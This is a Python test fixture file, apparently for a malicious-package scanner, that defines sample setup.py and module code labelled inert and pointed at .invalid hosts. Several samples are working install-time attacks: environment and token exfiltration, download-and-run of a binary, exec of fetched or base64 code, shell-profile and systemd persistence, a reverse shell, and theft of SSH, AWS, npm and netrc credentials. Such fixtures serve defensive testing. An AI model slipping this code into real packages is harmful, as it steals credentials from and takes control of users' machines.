# SPDX-License-Identifier: Apache-2.0
"""Inert Python packages: {name: ({path: text}, what is run)}. Hosts are reserved names; nothing of it is run without recorders."""

PACKAGE = "from setuptools import setup\n\nsetup(name='fixture', version='1', packages=['fixture'])\n"

PROGRAMS = {
    "env-post": ({"setup.py": '''"""An inert program."""
import os
import requests

url = "https://collect.invalid/in"
requests.post(url, json={"token": os.environ.get("API_TOKEN"), "all": dict(os.environ)})
from setuptools import setup
setup(name="fixture", version="1")
'''}, "setup.py"),
    "download-run": ({"setup.py": '''import os, subprocess
import urllib.request as ur
from setuptools import setup
from setuptools.command.install import install


class Fetch(install):
    target = "/tmp/.helper"

    def run(self):
        ur.urlretrieve("http://files.invalid/p.bin", self.target)
        os.chmod(self.target, 0o755)
        subprocess.Popen([self.target, "--quiet"], stdout=subprocess.DEVNULL)
        install.run(self)


setup(name="fixture", cmdclass={"install": Fetch})
'''}, "setup.py"),
    "exec-fetched": ({"setup.py": PACKAGE, "fixture/__init__.py": '''import urllib.request


def _load(address, tries=3):
    for _ in range(tries):
        try:
            return urllib.request.urlopen(address).read()
        except OSError as error:
            last = error
    raise last


text = _load("http://code.invalid/next.py")
try:
    exec(text)
except Exception as e:
    print(type(e).__name__)
'''}, "fixture"),
    "decoded": ({"setup.py": '''import base64, os
hidden = base64.b64decode("b3Muc3lzdGVtKCdlY2hvIGluZXJ0Jyk=")
exec(hidden)
'''}, "setup.py"),
    "persist": ({"fixture/__init__.py": '''import os
import sys
from . import _paths

LINE = "\\npython3 -m fixture &\\n"


def plant(folder=None):
    """Puts a line where a shell reads it."""
    home = folder or os.path.expanduser("~")
    for name in (".bashrc", ".zshrc", '.profile'):
        with open(os.path.join(home, name), "a") as handle:
            handle.write(LINE)
    os.makedirs(_paths.unit_folder(home), exist_ok=True)
    with open(_paths.unit_folder(home) + "/x.service", "w") as f:
        f.write("[Service]\\nExecStart=" + "/usr/bin/python3" + "\\n")


plant()
''', "fixture/_paths.py": '''import os


def unit_folder(home):
    return os.path.join(home, ".config", "systemd", "user")
''', "setup.py": PACKAGE}, "fixture"),
    "reverse-shell": ({"setup.py": '''import socket,subprocess,os
def connect(host, port):
    s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((host,port))
    for fd in (0,1,2): os.dup2(s.fileno(),fd)
    return subprocess.call(["/bin/sh","-i"])
if True: connect("shell.invalid", 4444)
'''}, "setup.py"),
    "steal-files": ({"fixture/__init__.py": '''from __future__ import annotations

import os
import json
import shutil
import requests

HOME = os.path.expanduser("~")
WANTED = {"ssh": ".ssh/id_rsa", "aws": ".aws/credentials", 'npm': ".npmrc"}


class Collector:
    """Reads what it is told to."""

    url = "https://drop.invalid/up"

    def __init__(self, limit: int = 10):
        self.limit, self.found = limit, {}

    def read(self, key, path):
        try:
            with open(path, "rb") as handle:
                self.found[key] = str(handle.read())
        except FileNotFoundError:
            pass

    def gather(self):
        [self.read(k, os.path.join(HOME, v)) for k, v in WANTED.items()]
        return self

    def send(self):
        body = json.dumps(self.found, sort_keys=True)
        return requests.post(self.url, data=body, headers={"X-Id": f"{len(self.found)}-{self.limit:03d}"}, timeout=5)


Collector(limit=3).gather().send()
shutil.copyfile(HOME + "/.netrc", "/tmp/n")
''', "setup.py": PACKAGE}, "fixture"),
    "threads": ({"fixture/__init__.py": '''import threading, time, os

done = 0


def beat(host, *args, **names):
    global done
    done += 1
    os.system("ping -c 1 %s # %s %d" % (host, names.get("why", "none"), done))


def later(function):
    def wrapped(*args, **names):
        time.sleep(1)
        return function(*args, **names)
    return wrapped


@later
def first():
    beat("one.invalid", why="it's \\"quoted\\"")


thread = threading.Thread(target=first)
thread.start()
thread.join()
beat(host="two.invalid")
''', "setup.py": PACKAGE}, "fixture"),
    "closures": ({"setup.py": '''import os


def make(prefix):
    count = 0

    def run(command, *, quiet=False):
        nonlocal count
        count += 1
        os.system(prefix + command + (" > /dev/null" if quiet else ""))
        return count
    return run


runner = make("env ")
values = [runner(c, quiet=q) for c, q in (("id", True), ("hostname", False))]
total = sum(v for v in values if (half := v // 2) or half == 0)
os.popen(f"echo {total} {values!r}").read()
(lambda n: os.putenv("N", str(n)))(total)
'''}, "setup.py"),
    "two-modules": ({"fixture/__init__.py": '''from .reader import secrets, NAMES
from .sender import Sender

Sender("https://two.invalid/x").push(secrets(NAMES))
''', "fixture/reader.py": '''import os

NAMES = ["API_TOKEN", "GITHUB_TOKEN"]


def secrets(names):
    return {name: os.environ[name] for name in names if name in os.environ}
''', "fixture/sender.py": '''import json
import urllib.request


class Sender(object):
    def __init__(self, url):
        self.url = url

    def push(self, data):
        request = urllib.request.Request(self.url, data=json.dumps(data).encode("utf-8"), headers={"Content-Type": "application/json"})
        urllib.request.urlopen(request, timeout=10)
''', "setup.py": PACKAGE}, "fixture"),
    "scripts": ({"setup.py": '''# -*- coding: utf-8 -*-
import os
from setuptools import setup
from helper import announce

announce("install", "\\u00e9t\\u00e9 \\t tab")
setup(name="fixture", version="1", py_modules=["helper"])
''', "helper.py": '''import platform, getpass
import requests as r


def announce(stage, note=""):
    who = "%s@%s" % (getpass.getuser(), platform.node())
    r.get("https://hello.invalid/" + stage, params={"who": who, "note": note})
'''}, "setup.py"),
    "control": ({"setup.py": '''import os, subprocess

for step in range(3):
    if step == 0:
        os.system("step zero")
    elif step == 1:
        try:
            subprocess.check_output(["id", "-u"]).decode().split("\\n")
            raise ValueError("no 'way'")
        except ValueError as why:
            os.system("caught " + str(why))
        else:
            os.system("never")
        finally:
            os.remove("/tmp/%d" % step)
    else:
        while True:
            os.unlink("/tmp/last")
            break
text = """A text
of 'several' "lines" \\\\ and a back slash
"""
subprocess.run(["sh", "-c", text], env={"A": "1", **{"B": '2'}})
'''}, "setup.py"),
    "bytes": ({"setup.py": '''import socket
import hashlib

s = socket.create_connection(("raw.invalid", 9000))
s.sendall(b"HELLO \\x00\\xff world" + b'more')
s.sendall(bytes([1, 2, 3]) + b"plain ascii")
s.send(hashlib.sha256(b"abcdef").hexdigest().encode())
s.close()
'''}, "setup.py"),
    "generators": ({"fixture/__init__.py": '''import os
from typing import Iterator


def names() -> Iterator[str]:
    yield "alpha.txt"
    yield from ("beta.txt", "gamma.txt")


class Store(dict):
    kind = "store"

    @property
    def label(self):
        return self.kind + ":" + ",".join(sorted(self))

    @staticmethod
    def path(name): return "/tmp/" + name

    @classmethod
    def make(cls, source):
        new = cls()
        for n in source: new[n] = cls.path(n)
        return new


store = Store.make(names())
for key, value in sorted(store.items()): os.rename(value, value + ".bak")
os.system("echo " + store.label); os.system('echo done')
assert store.kind == "store", "kind"
del store
''', "setup.py": PACKAGE}, "fixture"),
    "dynamic": ({"setup.py": '''import importlib, sys

module = importlib.import_module("o" + "s")
getattr(module, "sys" + "tem")("dynamic one")
table = {"run": module.system, "drop": lambda p: module.remove(p)}
table["run"]("dynamic two")
table["drop"]("/tmp/three")
eval("module.system('dynamic four')")
name = "five"
exec("module.system('dynamic ' + name)")
print(globals()["name"])
setattr(sys, "marked", True)
'''}, "setup.py"),
    "async-code": ({"fixture/__init__.py": '''import asyncio
import os


async def work(n):
    await asyncio.sleep(0)
    os.system("work %d" % n)
    return n * 2


async def main():
    results = [await work(i) for i in range(2)]
    os.system("sum %d" % sum(results))


asyncio.run(main())
''', "setup.py": PACKAGE}, "fixture"),
    "main-guard": ({"setup.py": '''import os
from setuptools import setup


def post(**fields):
    import requests
    requests.post("https://guard.invalid/", data=fields)


if __name__ == "__main__":
    post(user=os.environ["USER"], cwd=os.path.basename("/a/b"))
    setup(name="fixture")
'''}, "setup.py"),
}
